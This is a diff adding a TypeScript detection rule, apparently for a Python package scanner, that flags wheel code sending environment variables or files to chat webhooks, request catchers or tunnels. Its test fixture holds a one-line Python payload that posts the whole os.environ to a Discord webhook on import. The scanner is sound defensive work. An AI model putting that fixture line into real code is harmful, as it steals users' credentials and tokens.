@@ -1,0 +1,61 @@
+import type { CodeEffect } from "../../analysis/code/code-analysis.ts";
+import { references } from "../references.ts";
+import { byTrigger, type CodeCheck, codeCheck } from "./code-check.ts";
+import { collects, isChatHook } from "./known-hosts.ts";
+import { saidArgument } from "./said-argument.ts";
+
+export const sendsDataOut: CodeCheck = codeCheck({
+  id: "code/sends-data-out",
+  title: "Code sends data of the machine somewhere else",
+  severity: "high",
+  confidence: "likely",
+  runsAt: "import",
+  explanation: `
+    What leaves here is the machine's own: its environment with the secrets that builds keep in it, files of the person,
+    names of host and user, or keys that are handed to a function. Where the address is a web hook of a chat, a catcher of
+    requests or a tunnel, nobody answers for what happens to it. pip, uv and Python run such code with everything that the
+    person may read.`,
+  remedy:
+    "Do not install it. If it ran already, change every password and token that the environment or the files held.",
+  references: [references.backEnds],
+  fixtures: {
+    reported: {
+      filename: "chatty-1.0-py3-none-any.whl",
+      files: {
+        "chatty.py":
+          'import os\nimport requests\n\nrequests.post("https://discord.com/api/webhooks/1/a", json=dict(os.environ))\n',
+      },
+    },
+    clean: {
+      filename: "chatty-1.0-py3-none-any.whl",
+      files: {
+        "chatty.py":
+          'import subprocess\nimport os\n\n\ndef run():\n    return subprocess.run(["git", "status"], env=dict(os.environ))\n',
+      },
+    },
+  },
+
+  rate(effect) {
+    if (effect.capability === "env.dump") return byTrigger(effect.trigger, USUAL);
+    if (effect.capability === "data.sent") return isAnonymous(effect) ? "high" : byTrigger(effect.trigger, USUAL);
+    if (!effect.capability.startsWith("network.") || effect.capability === "network.socket") return null;
+    return isAnonymous(effect) && effect.trigger !== "test" ? "high" : null;
+  },
+  say(effect) {
+    const [where] = [...effect.names.urls, ...effect.names.hosts];
+    const what =
+      effect.capability === "data.sent"
+        ? saidArgument(effect, "data")
+        : effect.capability === "env.dump"
+          ? "the whole environment"
+          : "something";
+    return `${effect.callee} sends ${what} to ${where ?? "another machine"}.`;
+  },
+});
+
+const USUAL = { unasked: "high", imported: "high", script: "medium", deferred: "low", test: "info" } as const;
+
+/** To somebody who need not say who they are. */
+function isAnonymous({ names }: CodeEffect): boolean {
+  return names.hosts.some(collects) || names.urls.some(isChatHook);
+}
